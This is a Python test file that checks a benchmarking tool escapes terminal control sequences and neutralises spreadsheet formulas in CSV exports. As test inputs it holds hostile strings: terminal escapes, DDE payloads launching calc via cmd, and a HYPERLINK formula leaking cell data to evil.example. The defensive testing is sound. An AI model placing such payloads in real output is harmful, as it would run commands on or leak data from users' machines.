"""Output that cannot attack its reader (issue 25, point 5): text from files and models never drives a terminal, and a
CSV export never hands a spreadsheet a formula.

The terminal cases run ``judge`` on a real pseudo-terminal (tests/support/tty.py); piped output stays exact.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from judge.cli import main
from judge.report.csv import render_csv, spreadsheet_safe
from judge.report.model import Cell, Column, Table
from judge.terminal import SafeStream, fit, has_control, text_width, visible
from tests.support.tty import run_in_pty

ROOT = Path(__file__).resolve().parents[1]
CHATS = ROOT / "datasets" / "support-chats"
# A window title set, the screen cleared, a C1 CSI colour, a carriage return that would overwrite the line, and a
# right-to-left override that would reorder what follows.
HOSTILE = "fine\x1b]0;pwned\x07\x1b[2J\x9b31m red\rOVERWRITTEN \u202eevil"


# -- the filter -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("plain text, é, 中文, 👍", "plain text, é, 中文, 👍", id="printable-unchanged"),
        pytest.param("two\nlines\tand a tab", "two\nlines\tand a tab", id="newline-and-tab-stay"),
        pytest.param("\x1b[2J", "\\x1b[2J", id="escape"),
        pytest.param("bell\x07", "bell\\x07", id="bell"),
        pytest.param("a\rb", "a\\x0db", id="carriage-return"),
        pytest.param("\x9b31m", "\\x9b31m", id="c1-csi"),
        pytest.param("\x7f", "\\x7f", id="delete"),
        pytest.param("\u202eabc\u2066", "\\u202eabc\\u2066", id="bidi-override-and-isolate"),
        pytest.param("a\u2028b", "a\\u2028b", id="line-separator"),
    ],
)
def test_visible_escapes_what_could_drive_a_terminal(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert has_control(text) == (text != shown)
    assert not has_control(visible(text))


def test_safe_stream_filters_everything_written() -> None:
    buf = io.StringIO()
    out = SafeStream(buf)  # type: ignore[arg-type]
    print("name:", HOSTILE, file=out)  # type: ignore[arg-type]
    out.writelines(["\x1b[H", "ok\n"])
    assert "\x1b" not in buf.getvalue() and "\r" not in buf.getvalue() and "\u202e" not in buf.getvalue()
    assert buf.getvalue().startswith("name: fine\\x1b]0;pwned\\x07") and buf.getvalue().endswith("\\x1b[Hok\n")
    assert out.raw_stream is buf and out.getvalue() == buf.getvalue()  # type: ignore[attr-defined]


def test_fit_counts_terminal_columns() -> None:
    assert fit("short", 10) == "short"
    assert fit("0123456789abc", 10) == "012345678…" and text_width(fit("0123456789abc", 10)) == 10
    assert text_width("中文") == 4 and text_width(fit("中文中文中文", 7)) <= 7
    assert text_width("e\u0301") == 1  # a combining accent takes no column


# -- a real terminal -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The support-chats benchmark (rated) and a run whose judge wrote control characters in its rationale."""
    tmp = tmp_path_factory.mktemp("hostile")
    bench, run = tmp / "bench", tmp / "run"
    ratings = sorted(str(p) for p in (CHATS / "ratings").glob("*.csv"))
    assert main(["import", "table", *ratings, "--items", str(CHATS / "conversations.csv"), "--judged-role",
                 "supporter", "--rubrics", str(CHATS / "rubrics"), "--out", str(bench)]) == 0  # fmt: skip
    outputs = tmp / "outputs.jsonl"
    rows = [
        {"item_id": "chat-01", "criterion": "warmth", "judge": "evil\x1b[31m", "raw_output": json.dumps(
            {"rationale": HOSTILE, "score": 1})},
        {"item_id": "chat-02", "criterion": "warmth", "judge": "evil\x1b[31m", "raw_output": "3"},
    ]  # fmt: skip
    outputs.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert main(["import", "judgments", str(outputs), "--benchmark", str(bench), "--rubrics", str(CHATS / "rubrics"),
                 "--out", str(run)]) == 0  # fmt: skip
    return bench, run


def test_show_on_a_terminal_prints_control_characters_as_escapes(hostile_run: tuple[Path, Path]) -> None:
    _, run = hostile_run
    done = run_in_pty([sys.executable, "-m", "judge", "show", str(run), "--rubrics", str(CHATS / "rubrics")], cols=100)
    assert done.rc == 0, done.output
    # (the rationale is re-flowed as words, so its carriage return is a space there)
    assert "fine\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m red" in done.output and "\\u202eevil" in done.output
    assert "evil\\x1b[31m" in done.output  # the judge's name too
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in done.output, repr(bad)
    assert "\r" not in done.output  # (the terminal's own "\r\n" was read back as "\n")


def test_piped_output_is_left_exact(hostile_run: tuple[Path, Path]) -> None:
    # Off a terminal (a script reading --json) the data stay exactly what the run holds.
    _, run = hostile_run
    done = subprocess.run(
        [sys.executable, "-m", "judge", "show", str(run), "--rubrics", str(CHATS / "rubrics"), "--json"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["disagreements"][0]["rationale"] == HOSTILE


# -- spreadsheets ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        pytest.param('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")', id="equals"),
        pytest.param("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus"),
        pytest.param("@SUM(A1:A9)", "'@SUM(A1:A9)", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("-0.25", "-0.25", id="negative-number-unchanged"),
        pytest.param("+3", "+3", id="signed-number-unchanged"),
        pytest.param("gpt-4o", "gpt-4o", id="dash-inside-unchanged"),
        pytest.param("", "", id="empty"),
    ],
)
def test_spreadsheet_safe(text: str, written: str) -> None:
    assert spreadsheet_safe(text) == written


def test_csv_neutralises_text_cells_and_keeps_numbers() -> None:
    table = Table(
        key="t",
        title="t",
        columns=[Column(key="=name", label="name"), Column(key="score", label="score", numeric=True)],
        rows=[
            [Cell(text='=HYPERLINK("http://evil.example")'), Cell(text="-0.5 [-1, 0]", value=-0.5)],
            [Cell(text="ok", value="@evil"), Cell(text="-3", value=-3)],
            [Cell(text="-0.12"), Cell(text="n/a")],
        ],
    )
    rows = list(csv.reader(io.StringIO(render_csv(table))))
    assert rows == [
        ["'=name", "score"],
        ['\'=HYPERLINK("http://evil.example")', "-0.5"],
        ["'@evil", "-3"],
        ["-0.12", "n/a"],
    ]


def test_leaderboard_csv_from_the_cli_neutralises_a_system_name(tmp_path: Path) -> None:
    bench = tmp_path / "bench"
    ratings = sorted(str(p) for p in (CHATS / "ratings").glob("*.csv"))
    assert main(["import", "table", *ratings, "--items", str(CHATS / "conversations.csv"), "--judged-role",
                 "supporter", "--rubrics", str(CHATS / "rubrics"), "--out", str(bench)]) == 0  # fmt: skip
    items = [json.loads(line) for line in (bench / "items.jsonl").read_text(encoding="utf-8").splitlines()]
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    for n, it in enumerate(items):
        it["system"] = {"model": evil if n % 2 else "=1+2"}
    (bench / "items.jsonl").write_text("".join(json.dumps(it) + "\n" for it in items), encoding="utf-8")
    out = tmp_path / "lb"
    rc = main(["leaderboard", "--benchmark", str(bench), "--rubrics", str(CHATS / "rubrics"), "--n-boot", "50",
               "--out", str(out), "--format", "csv"])  # fmt: skip
    assert rc == 0
    rows = list(csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text(encoding="utf-8"))))
    names = {r["model"] for r in rows}
    assert names == {"'" + evil, "'=1+2"}
    for r in rows:  # every other cell: a number as it was, or text that cannot start a formula
        for k, v in r.items():
            if k != "model" and v:
                assert not v.startswith(("=", "@", "+", "\t", "\r")), (k, v)
                if v.startswith("-"):
                    float(v)
